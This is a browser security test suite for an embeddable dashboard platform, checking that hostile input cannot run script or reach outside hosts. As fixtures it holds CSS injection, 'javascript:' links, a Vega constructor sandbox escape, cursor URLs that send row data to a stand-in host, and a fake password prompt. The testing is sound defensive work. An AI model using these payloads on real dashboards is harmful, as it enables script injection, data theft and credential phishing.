/** Texts that try to run as script, through every field that users of the platform write, in a real browser. */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openBrowser } from '../../../test/browser.ts';
import { embed, type HostSite, startHost } from '../../../test/embedded-page.ts';
import { withDashboards } from '../../../test/fixture-dashboards.ts';
import { HOSTILE } from '../../../test/hostile-texts.ts';
import { BARS, graphical, tabular } from '../../../test/shop-dashboard.ts';
import { deployModel, SHOP_MODEL } from '../../../test/shops.ts';
import { createWorld, unique, type World } from '../../../test/world.ts';

const ALL = HOSTILE.join(' ');

let world: World;
let browser: Browser;
let host: HostSite;
let deploymentId: number;
beforeAll(async () => {
  world = await createWorld();
  browser = await openBrowser();
  host = await startHost();
  ({ id: deploymentId } = await world.deployment());
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  await world.writeFiles(deploymentId, {
    'customers.csv': `id,name,region,tenant_id\n${HOSTILE.map((text, i) => `${i + 1},${quoted(text)},EMEA,1`).join('\n')}\n`,
    'orders.csv': `id,customer_id,status,amount,ordered_at\n${HOSTILE.map((text, i) => `${i + 1},${i + 1},${quoted(text)},${i + 1},2024-02-10 08:00:00`).join('\n')}\n`,
  });
  await deployModel(world, deploymentId, SHOP_MODEL);
});
afterAll(async () => {
  await browser?.close();
  await host?.stop();
  await world?.stop();
});

type Json = string | number | boolean | null | Json[] | { [key: string]: Json };

/** Replaces every text that people read by hostile ones. Texts that decide what is shown stay. */
function poisoned(value: Json, key = ''): Json {
  if (Array.isArray(value)) return value.map((each) => poisoned(each, key));
  if (value && typeof value === 'object') {
    return Object.fromEntries(
      Object.entries(value).map(([name, each]) => [name, name === 'query' ? each : poisoned(each, name)]),
    );
  }
  return typeof value === 'string' &&
    ['title', 'name', 'description', 'markdown', 'template', 'text'].includes(key)
    ? ALL
    : value;
}

const THEME = {
  primaryColor: 'red;}*{background:url(https://evil.invalid/h.png)}',
  fontFamily: 'x; } * { background: url(https://evil.invalid/i.png) }',
  backgroundColor: 'url(https://evil.invalid/j.png)',
  borderRadius: '1px;background:url(https://evil.invalid/k.png)',
};

/** Vega specs that load, link, or call what they should not. */
const SPEC = {
  ...BARS,
  data: [...BARS.data, { name: 'more', url: 'https://evil.invalid/data.json' }],
  title: { text: ALL },
  signals: [{ name: 's', update: "constructor.constructor('window.hacked=1')()" }],
  marks: [
    ...BARS.marks,
    {
      type: 'image',
      encode: {
        update: { url: { value: 'https://evil.invalid/l.png' }, width: { value: 9 }, height: { value: 9 } },
      },
    },
    {
      type: 'text',
      encode: { update: { text: { value: ALL }, href: { value: 'javascript:window.hacked=1' } } },
    },
  ],
};

/** A spec with nothing wrong except that its expression reaches a constructor. */
const REACHING = {
  ...BARS,
  signals: [
    {
      name: 's',
      update:
        "intersect([[-1e9, -1e9], [1e9, 1e9]])[0].mark.group['context'].dataflow['const' + 'ructor']['const' + 'ructor']('window.hacked=1')",
    },
  ],
};

test.each([
  ['tables, texts and filters', tabular, {}],
  ['charts, maps, templates and threads', graphical, {}],
  ['specs of charts', graphical, { spec: SPEC }],
  ['expressions of charts', graphical, { spec: REACHING }],
] as const)('nothing in %s runs, or loads anything', async (_what, make, { spec }: { spec?: object }) => {
  const made = make(deploymentId, 'shown');
  const dashboard = poisoned(made as never) as ReturnType<typeof tabular>;
  Object.assign(dashboard.config, { theme: THEME });
  if (spec) dashboard.reportSnapshots[0]!.spec = spec;
  const profile = {
    displayName: ALL.slice(0, 250),
    picture: 'https://pictures.invalid/x.png?onerror=window.hacked=1',
  };
  const body = { deploymentId, externalId: unique('viewer'), userProfile: profile };
  const { sessionId } = await world.admin.generateSession({ body });
  const address = `${world.url}/embed/dashboard/shown?session=${sessionId}&allowExport=true&theme=${encodeURIComponent(ALL)}&locale=${encodeURIComponent(ALL)}&timezone=${encodeURIComponent(ALL)}&f_sales.status=${encodeURIComponent(JSON.stringify({ value: ALL, operator: ALL }))}`;
  const embedding = await embed(browser, host.origin, [address], {
    prepare: withDashboards({ shown: dashboard }),
  });
  await embedding.heard('dashboard-loaded');
  const frame = embedding.frame();
  await embedding.act('set-theme', THEME);
  await embedding.act('set-locale', { locale: ALL });
  await embedding.act('navigate', { path: `javascript:window.hacked=1` });
  await embedding.act('set-color-scheme', { scheme: 'dark' });
  await embedding.act('set-color-scheme', { scheme: ALL });
  await frame.locator('html[data-scheme=dark]').waitFor();
  for (const link of await frame.locator('a').all())
    expect((await link.getAttribute('href')) ?? '').not.toMatch(/^javascript:/i);
  expect(await frame.getByText('press').count()).toBeGreaterThan(0);
  for (const item of await frame.getByText('press').all())
    await item.click({ force: true, timeout: 2000 }).catch(() => {});
  expect(await frame.evaluate('[window.hacked, parent === window]')).toEqual([undefined, false]);
  expect(
    await frame
      .locator('#page :is(script, iframe, object, embed, style, link, base, form, math, image)')
      .count(),
  ).toBe(0);
  expect(
    await frame.evaluate(
      `[...document.querySelectorAll('*')].some((element) => [...element.attributes].some(({ name }) => name.startsWith('on')))`,
    ),
  ).toBe(false);
  expect(await frame.locator('#page .html :is([style*=position], [style*=url])').count()).toBe(0);
  expect(embedding.requests.filter((url) => url.startsWith('https://evil.invalid'))).toEqual([]);
  // Templates are parsed in a document that runs nothing, but the browser reports what it would refuse there.
  const isParsed = made.reportSnapshots.some(({ kind }) => kind === 'html');
  if (!isParsed) expect(embedding.errors.filter((text) => /Content Security Policy/.test(text))).toEqual([]);
  await embedding.close();
});

/** Colours and pointers whose addresses hold rows, form fields, and ears outside of the chart. */
const ROWS = "encodeURIComponent(pluck(data('rows'),'sales__amount'))";
const [BAR] = BARS.marks;
const painted = (more: object) => [
  { ...BAR!, encode: { update: { ...BAR!.encode.update, ...more } } },
  // Says that the chart heard the pointer, and what it heard besides.
  {
    type: 'text',
    encode: {
      update: { y: { value: 20 }, fill: { value: '#333' }, text: { signal: "moved + ':' + heard" } },
    },
  },
];
const SIGNALS = [
  { name: 'moved', value: 'still', on: [{ events: 'pointermove', update: "'moved'" }] },
  {
    name: 'heard',
    value: '',
    on: [
      { events: 'window:keydown', update: 'heard + event.key' },
      { events: 'body:pointermove', update: "heard + 'body'" },
      { events: '.head:pointermove', update: "heard + 'head'" },
      { events: { type: 'timer', throttle: 1 }, update: "heard + 'timer'" },
    ],
  },
];
const OUTSIDE = {
  'a pointer of the whole chart': {
    signals: [
      ...SIGNALS,
      { name: 'cursor', update: `'url("https://evil.invalid/a.png?d=' + ${ROWS} + '"), auto'` },
    ],
    config: { events: { globalCursor: true, window: true, selector: true } },
    marks: painted({}),
  },
  'a pointer of a mark': {
    signals: SIGNALS,
    marks: painted({
      cursor: { signal: "'url(https://evil.invalid/b.png?d=' + datum.sales__amount + '), auto'" },
    }),
  },
  colours: {
    signals: SIGNALS,
    marks: painted({
      fill: { signal: "'url(https://evil.invalid/c.svg?' + datum.sales__amount + '#a)'" },
      stroke: { value: '\\75rl(https://evil.invalid/d.svg#a)' },
    }),
  },
  'form fields': {
    signals: [
      ...SIGNALS,
      {
        name: 'p',
        value: 'x',
        bind: { input: 'image', src: 'https://evil.invalid/e.png', element: '.head' },
      },
      { name: 'q', value: '', bind: { input: 'password', name: 'Your session has ended. Password' } },
    ],
    config: { events: { bind: 'any' } },
    marks: painted({}),
  },
};

test.each(Object.entries(OUTSIDE))('%s of a spec cannot reach outside of the chart', async (_what, more) => {
  const dashboard = graphical(deploymentId, 'shown');
  Object.assign(dashboard.reportSnapshots[0]!, { spec: { ...BARS, ...more } });
  const body = { deploymentId, externalId: unique('viewer') };
  const { sessionId } = await world.admin.generateSession({ body });
  const embedding = await embed(
    browser,
    host.origin,
    [`${world.url}/embed/dashboard/shown#session=${sessionId}`],
    {
      prepare: withDashboards({ shown: dashboard }),
    },
  );
  await embedding.heard('dashboard-loaded');
  const frame = embedding.frame();
  await frame.locator('.head').hover();
  await embedding.page.keyboard.type('secret');
  await frame.locator('.vega .mark-rect.role-mark path').last().hover({ force: true });
  await frame.locator('.vega svg').hover();
  await expect.poll(() => frame.locator('.vega .mark-text.role-mark').first().textContent()).toBe('moved:');
  expect(await frame.locator('#page :is(form, input, [fill*=rl], [stroke*=rl])').count()).toBe(0);
  expect(await frame.locator('[style*=cursor]').count()).toBe(0);
  const origins = new Set(embedding.requests.map((url) => new URL(url).origin));
  expect([...origins].sort()).toEqual([new URL(world.url).origin, host.origin].sort());
  expect(embedding.errors).toEqual([]);
  await embedding.close();
});

test.each([
  ['image/png', 1000, true],
  ['image/svg+xml', 1000, false],
  ['image/png', 1_100_000, false],
] as const)('a picture of a viewer of the type %s and %i bytes', async (contentType, length, isShown) => {
  const picture = 'https://pictures.invalid/ada.png';
  const userProfile = { displayName: 'Ada Lovelace', picture };
  const body = { deploymentId, externalId: unique('viewer'), userProfile };
  const { sessionId } = await world.admin.generateSession({ body });
  const asked: (string | undefined)[] = [];
  const pixel =
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPj/HwADAgH/p5FhpwAAAABJRU5ErkJggg==';
  const drawing = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>';
  const start = contentType === 'image/png' ? Buffer.from(pixel, 'base64') : Buffer.from(drawing);
  const file = Buffer.concat([start, Buffer.alloc(length, ' ')]);
  const embedding = await embed(
    browser,
    host.origin,
    [`${world.url}/embed/dashboard/shown#session=${sessionId}`],
    {
      async prepare(context) {
        await withDashboards({ shown: tabular(deploymentId, 'shown') })(context);
        await context.route(picture, (route) => {
          asked.push(route.request().headers().referer);
          const headers = { 'access-control-allow-origin': '*' };
          return route.fulfill({ headers, contentType, body: file });
        });
      },
    },
  );
  await embedding.heard('dashboard-loaded');
  const frame = embedding.frame();
  const avatar = frame.locator('.avatar');
  await expect.poll(() => asked).toEqual([undefined]);
  if (isShown) {
    await avatar.locator('img[src^="blob:"]').waitFor();
    const width = () => frame.evaluate(`document.querySelector('.avatar img').naturalWidth`);
    await expect.poll(width).toBe(1);
  } else {
    await embedding.act('set-color-scheme', { scheme: 'dark' });
    await frame.locator('html[data-scheme=dark]').waitFor();
    expect(await avatar.innerText()).toBe('AL');
  }
  expect(embedding.errors).toEqual([]);
  await embedding.close();
});
